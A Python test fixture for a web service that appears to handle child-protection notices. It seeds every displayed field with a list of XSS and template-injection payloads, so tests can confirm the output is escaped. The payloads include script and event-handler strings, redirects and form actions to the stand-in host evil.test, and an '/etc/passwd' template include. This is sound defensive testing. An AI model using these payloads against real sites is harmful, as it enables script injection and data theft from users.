"""Hostile words, and a way to put them into every field that a page may show."""

import dataclasses
import re
from datetime import date
from typing import Any

from directory.changes import What
from directory.contact import Contact
from directory.history import By
from directory.proposals import Proposals, wish_for, wish_for_authority
from service.database.ids import new_id
from service.database.received import NewLetter
from service.database.unit_of_work import Work
from service.domain.approval import Verdict
from service.domain.delivery import Answer
from service.domain.notice import Finding, Notice
from service.domain.people import Role
from service.policies import policy_named, text_of
from tests.directory.decided import set_contact
from tests.service.web import seeds
from tests.service.web.conftest import Town
from tests.service.web.seeds import NOW

CORPUS = (
    "<script>xss()</script>",
    '"><svg/onload=xss()>',
    "'><img src=x onerror=xss()>",
    "</textarea><script>xss()</script>",
    "</title></style></svg><script>xss()</script>",
    "--><script>xss()</script><!--",
    "]]><script>xss()</script>",
    "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}#{7*7}",
    "javascript:xss()//",
    '" onmouseover=xss() x="',
    "' autofocus onfocus=xss() x='",
    "` onclick=xss()`",
    '<a href="javascript:xss()">press</a>',
    '<iframe srcdoc="<script>xss()</script>">',
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.test>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
    "<details open ontoggle=xss()>",
    "<ScRiPt/x>xss()</sCrIpT>",
    "<form action=//evil.test><button formaction=//evil.test>",
    "<img src='//evil.test/?",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;script&#62;xss()",
    "%3Cscript%3Exss()%3C/script%3E",
    "\\x3cscript\\x3exss()\\u003c/script\\u003e",
    "+ADw-script+AD4-xss()",
    "\uff1cscript\uff1exss()",
    "\u202e<script>xss()\u2066",
    "<!--[if gte IE 4]><script>xss()</script><![endif]-->",
    "<xss style=width:expression(xss())>",
)
# Packed, because every pack needs a house of its own; short enough for the narrowest field of words.
PACKS = tuple(" ".join(CORPUS[start : start + 3]) for start in range(0, len(CORPUS), 3))
PLAIN = "Plain words of the same length"
COLUMNS = {
    "issuing_authorities": ("name", "phone", "out_of_hours"),
    "persons": ("name", "title", "phone"),
    "tasks": ("says",),
    "heartbeats": ("trouble",),
    "received_emails": ("rule", "reason"),
    "cases": ("reporter_address",),
    "local_notices": ("reporter_address", "passed_to", "category"),
    "deliveries": ("recipient_name", "address", "smtp_status"),
    "notices": ("submitted_by",),
    "known_domains": ("domain",),
    "directory_authorities": (
        "name",
        "short_name",
        "region",
        "police_force",
        "delivery_note",
        "reorganisation_note",
        "other_names",
        "delivered_by",
    ),
    "directory_contacts": ("role", "phone", "out_of_hours", "secure_note"),
    "directory_changes": ("who", "why"),
    "directory_proposals": ("who", "why", "reason"),
}
_DATE = re.compile(r"\d{4}-\d\d-\d\d")


async def poison(town: Town, words: str) -> str:
    """Put *words* wherever words can come from outside; return the id of a local notice whose letter holds them."""
    async with town.database.begin() as work:
        kent = await work.people.authority_at("alerts@kent.test")
        assert kent is not None
        for notice in (town.seeds.live_notice, town.seeds.check_notice, town.seeds.decide_notice):
            found = await work.notices.get(notice)
            await work.notices.save(_poisoned(found, words), read_version=found.version)
        local = await _letters(work, kent.id, words)
        await _words(work, town, kent.id, words)
    async with town.database.begin() as work:
        for table, columns in COLUMNS.items():
            for column in columns:
                await work.connection.exec_driver_sql(f"UPDATE {table} SET {column} = ?", (words,))
    return local


async def _letters(work: Work, authority_id: str, words: str) -> str:
    raw = seeds.letter(f"{words}\n<html>{words}</html>", words, form=seeds.FORM, picture=b"\x89PNG\r\n\x1a\n").replace(
        b'filename="../photo.png"', b"filename*=utf-8''" + "".join(f"%{byte:02X}" for byte in words.encode()).encode()
    )
    new = NewLetter(uid=90, size=len(raw), complete=True, raw=raw, message_id=None)
    await work.received.keep([new], mailbox="alerts@kent.test", folder="INBOX", uidvalidity=1, at=NOW)
    email_id = (await work.received.next_new(1, at=NOW))[0]
    await work.received.quarantined(email_id, kind="unknown", rule="r", reason="r")
    await work.tasks.add(kind="read_by_hand", role=Role.QUALITY, says="s", at=NOW, subject_id=email_id)
    return await work.local_notices.add(
        authority_id=authority_id,
        kind="case_alert",
        category="exploitation",
        in_care=True,
        reporter_address="r",
        passed_to="p",
        received_email_id=email_id,
        at=NOW,
    )


async def _words(work: Work, town: Town, authority_id: str, words: str) -> None:
    for kind in ("label", "title"):
        await work.unknown.note(authority_id, kind=kind, words=words, compared=words, at=NOW)
    for answer in (Answer.POSSIBLE_MATCH, Answer.NOT_KNOWN):
        await work.responses.add(
            delivery_id=town.seeds.delivery,
            case_id=town.seeds.live,
            gss_code="E06000001",
            answer=answer,
            way="link",
            confirmed=True,
            who=words,
            words=words,
            at=NOW,
        )
    (asked, *_) = await work.approvals.of_notice(town.seeds.decide_notice)
    await work.approvals.use(asked, verdict=Verdict.REJECT, way="web", reason=words, evidence={}, at=NOW)
    await set_contact(work.register, gss_code="E10000016", address="duty@kent.test", role="Duty", who="w", why="w", at=NOW)
    wanted = Contact(gss_code="E10000016", order=1, address=words, role=words, phone=words, out_of_hours=words, secure_note=words)
    known = await work.register.authority("E10000016")
    assert known is not None
    ended = dataclasses.replace(known, name=words, region=words, delivery_note=words, valid_to=date(2028, 3, 31), successors=(words,))
    for batch in (None, "b" * 32):
        by = By(who="w", why="w", at=NOW, batch=batch)
        await Proposals(work.connection).add(wish_for(None, wanted), reason=words, by=by)
        await Proposals(work.connection).add(wish_for_authority(known, ended, What.AUTHORITY_RETIRED), reason=words, by=by)
    await work.signals.beat("relay", at=NOW, trouble="t")
    policy = policy_named("national")
    text = text_of("national").replace(f'version = "{policy.version}"', 'version = "1"')
    quoted = words.replace("\\", "\\\\").replace('"', '\\"')
    text = re.sub(r'(?m)^(title|covers|document|source|ours) = ".*"$', lambda line: f'{line[1]} = "{quoted}"', text)
    await work.policies.keep("national", "1", text, at=NOW)
    work.audit.add("case_opened", at=NOW, case_id=town.seeds.live, kind=words, subject_id=new_id())


def _poisoned(notice: Notice, words: str) -> Notice:
    finding = Finding(rule="r", outcome="not_met", says=words, source=words, label=words, field_path="children[0].family_name")
    return dataclasses.replace(
        notice,
        fields=_everywhere({**notice.fields, "circumstances": "c", "adults": [{"name": "n", "relationship": "r"}]}, words),
        provenance=_everywhere(dict(notice.provenance), words)
        | {"children[0].family_name": dict.fromkeys(("file", "place", "label", "text", "method"), words)},
        findings=(*notice.findings, finding, dataclasses.replace(finding, outcome="unrecognised")),
    )


def _everywhere(value: Any, words: str) -> Any:
    if isinstance(value, dict):
        return {name: _everywhere(one, words) for name, one in value.items()}
    if isinstance(value, list | tuple):
        return [_everywhere(one, words) for one in value]
    return words if isinstance(value, str) and not _DATE.fullmatch(value) else value
